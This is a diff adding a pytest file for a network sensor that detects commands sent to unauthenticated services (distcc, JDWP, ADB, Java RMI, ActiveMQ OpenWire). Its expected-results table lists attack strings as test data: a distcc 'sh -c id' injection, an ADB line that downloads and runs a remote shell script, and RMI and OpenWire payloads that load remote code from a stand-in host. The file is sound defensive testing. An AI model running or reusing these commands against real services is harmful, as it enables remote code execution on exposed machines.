@@ -1,0 +1,68 @@
+"""Commands for services without a login."""
+
+from __future__ import annotations
+
+import pytest
+
+from sensor.core.dissector import Stream
+from sensor.core.packet import Packet
+from sensor.dissectors.service_command import ServiceCommands
+from tests.dissectors.samples import events, packets
+
+EXPECTED = {
+    49500: [("ServiceCommand", "distcc", "gcc -O2 -c main.c")],
+    49501: [("ServiceCommand", "distcc", "sh -c id # -c main.c -o main.o")],
+    49502: [("ServiceCommand", "jdwp", "handshake")],
+    49503: [
+        ("ServiceCommand", "adb", "shell:getprop"),
+        (
+            "ServiceCommand",
+            "adb",
+            "shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh",
+        ),
+    ],
+    49504: [
+        ("ServiceCommand", "rmi", "java.rmi.server.ObjID http://198.51.100.7:8080/a/x.jar metasploit.RMILoader"),
+    ],
+    49505: [
+        (
+            "ServiceCommand",
+            "openwire",
+            "org.springframework.context.support.ClassPathXmlApplicationContext http://198.51.100.7/poc.xml",
+        ),
+    ],
+}
+
+
+def test_commands_of_each_connection() -> None:
+    """Each connection of the sample yields its commands, also in segments of a few bytes."""
+    streams: dict[int, Stream] = {}
+    found: dict[int, list[tuple[object, ...]]] = {port: [] for port in EXPECTED}
+    for packet in packets("service_command"):
+        stream = streams.setdefault(packet.sport, ServiceCommands().stream(packet))
+        if not stream.done:
+            found[packet.sport] += events(stream.feed(packet, bytes(packet.payload), True))
+    assert found == EXPECTED
+
+
+def test_a_handshake_in_pieces() -> None:
+    """A message is read when it is complete; after a gap the next message is read."""
+    stream, packet = ServiceCommands().stream(Packet()), Packet()
+    assert events(stream.feed(packet, b"JDWP-Ha", True)) == []
+    assert events(stream.feed(packet, b"ndshake", True)) == [("ServiceCommand", "jdwp", "handshake")]
+    assert stream.done
+    stream = ServiceCommands().stream(packet)
+    assert events(stream.feed(packet, b"t3 12.2.1\n", True)) == []
+    assert list(stream.gap(packet, 100, True)) == []
+    assert events(stream.feed(packet, b"DIST00000001ARGC00000001ARGV00000002ls", True)) == [
+        ("ServiceCommand", "distcc", "ls")
+    ]
+
+
+@pytest.mark.parametrize(
+    "data", [b"GET / HTTP/1.1\r\n", b"DISTANCE 4\r\n", b"t3 1\r\n", b"\0\0\0\x08\x1f\0\0\0\0\0\0\0"]
+)
+def test_other_protocols_are_left_alone(data: bytes) -> None:
+    """Other data, and answers of a server, yield nothing."""
+    assert events(ServiceCommands().stream(Packet()).feed(Packet(), data, True)) == []
+    assert events(ServiceCommands().stream(Packet()).feed(Packet(), b"DIST00000001ARGV00000002ls", False)) == []
